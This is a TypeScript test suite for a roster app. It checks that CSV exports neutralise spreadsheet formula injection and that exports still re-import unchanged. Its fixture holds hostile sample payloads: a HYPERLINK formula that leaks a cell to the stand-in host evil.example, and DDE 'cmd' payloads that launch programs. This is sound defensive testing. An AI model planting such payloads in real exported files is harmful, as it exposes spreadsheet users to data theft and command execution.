/**
 * CSV injection (formula injection): a name or department that starts with
 * `=`, `+`, `-`, `@`, tab or carriage return must reach a spreadsheet as
 * text, never as a formula, in every CSV export; and an export still
 * re-imports unchanged (the import takes the added `'` off again). Against the
 * real server on SQLite and PostgreSQL.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliActor } from '#lib/auth/audit.ts';
import { importRoster } from '#lib/auth/roster-import.ts';
import { companyToday } from '#lib/calendar.ts';
import { neutraliseCell, restoreCell, stringifyCsv } from '#lib/csv/cells.ts';
import { translator } from '#lib/i18n/index.ts';
import { rosterAsOf } from '#lib/tracking/tracking.ts';
import { rosterCsv } from '#lib/auth/roster-csv.ts';
import { openTestStore, testDatabases } from '../support/databases.ts';
import { header, importCsv, roster, startRosterServer, type RosterServer } from './roster-server.ts';

const formula = /^[=+\-@\t\r]/;
const t = translator('en');

/** Names and departments as an attacker would type them (the CSV quotes them). */
const attackers = [
	['X001', '=HYPERLINK("http://evil.example/?x="&A1,"點我")', 'x1@example.com', "+SUM(1+1)*cmd|' /C calc'!A0", 'staff'],
	['X002', "-2+3+cmd|' /C notepad'!A0", 'x2@example.com', '@SUM(1+1)', 'staff'],
	['X003', '@cmd', 'x3@example.com', '\t=1+1', 'hr'],
	['X004', '\t=2+5', 'x4@example.com', '-業務部', 'staff'],
	['X005', "'=already quoted", 'x5@example.com', "''+twice", 'staff'],
	['X006', '王小明', 'x6@example.com', '運營部', 'staff'],
];
const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
const attackCsv = header + attackers.map((r) => [...r.map(quote), ''].join(',')).join('\n') + '\n';

const cells = (text: string) => parseCsv(text, { bom: true }) as string[][];

describe('a CSV cell that starts like a formula', () => {
	it('is neutralised with a leading quote for = + - @ tab and carriage return', () => {
		for (const value of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', "'=1", "''@x"])
			expect(neutraliseCell(value)).toBe(`'${value}`);
		for (const value of ['王小明', "'plain", 'a=1', ''] as const) expect(neutraliseCell(value)).toBe(value);
		const text = stringifyCsv(['a', 'b'], [['=1+1', -5]]);
		expect(cells(text)[1]).toEqual(["'=1+1", "'-5"]);
	});
	it('reads back exactly as it was written', () => {
		for (const value of ['=1+1', '\t=1', '\r=1', "'=1", "''@x", "'plain", '王小明', ''])
			expect(restoreCell(neutraliseCell(value))).toBe(value);
	});
});

describe.each(testDatabases)('CSV injection on $name', (database) => {
	let s: RosterServer;
	beforeAll(async () => {
		s = await startRosterServer(database);
		const response = await importCsv(s.hr, attackCsv);
		expect(response.status, await response.clone().text()).toBe(200);
	}, 120_000);
	afterAll(async () => {
		await s?.stop();
	});

	it('imports the names and departments as text (only the blanks around them trimmed)', async () => {
		const people = await roster(s.hr);
		const x1 = people.find((p) => p.employeeId === 'X001')!;
		expect(x1.name).toBe('=HYPERLINK("http://evil.example/?x="&A1,"點我")');
		expect(people.find((p) => p.employeeId === 'X003')!.department).toBe('=1+1');
		// A `'` before a formula character is what an export adds: the import takes one off.
		expect(people.find((p) => p.employeeId === 'X005')!.name).toBe('=already quoted');
		expect(people.find((p) => p.employeeId === 'X005')!.department).toBe("'+twice");
	});

	for (const [name, path] of [
		['roster.csv', '/api/v1/roster.csv'],
		['certifications.csv', '/api/v1/certifications.csv'],
	] as const)
		it(`formula injection through names and departments is neutralised in ${name}`, async () => {
			const response = await s.hr.request(path);
			expect(response.status).toBe(200);
			const rows = cells(await response.text());
			expect(rows.length).toBeGreaterThan(attackers.length);
			for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(formula);
			const x1 = rows.find((r) => r[0] === 'X001')!;
			expect(x1[1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"點我")');
			expect(x1[3]).toBe("'+SUM(1+1)*cmd|' /C calc'!A0");
			expect(rows.find((r) => r[0] === 'X005')![1]).toBe("'=already quoted");
			expect(rows.find((r) => r[0] === 'X005')![3]).toBe("''+twice");
		});

	it('a roster export re-imports unchanged into the same roster', async () => {
		const first = Buffer.from(await (await s.hr.request('/api/v1/roster.csv')).arrayBuffer());
		const response = await importCsv(s.hr, first);
		expect(response.status, await response.clone().text()).toBe(200);
		const result = (await response.json()) as { added: number; unchanged: number; differs: unknown[] };
		expect(result).toMatchObject({ added: 0, unchanged: attackers.length + 1, differs: [] });
		const second = Buffer.from(await (await s.hr.request('/api/v1/roster.csv')).arrayBuffer());
		expect(second.equals(first)).toBe(true);
	});

	it('a roster export imported into an empty roster gives the same export', async () => {
		const exported = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
			await (await s.hr.request('/api/v1/roster.csv')).arrayBuffer(),
		);
		const fresh = await openTestStore(database);
		try {
			const outcome = await importRoster(fresh.store, new TextEncoder().encode(exported), {
				t,
				actor: cliActor(),
				actorId: null,
			});
			expect(outcome.ok, JSON.stringify(outcome)).toBe(true);
			const again = rosterCsv(await rosterAsOf(fresh.store, companyToday(), 'Asia/Taipei'));
			expect(again).toBe(exported);
		} finally {
			await fresh.drop();
		}
	});
});
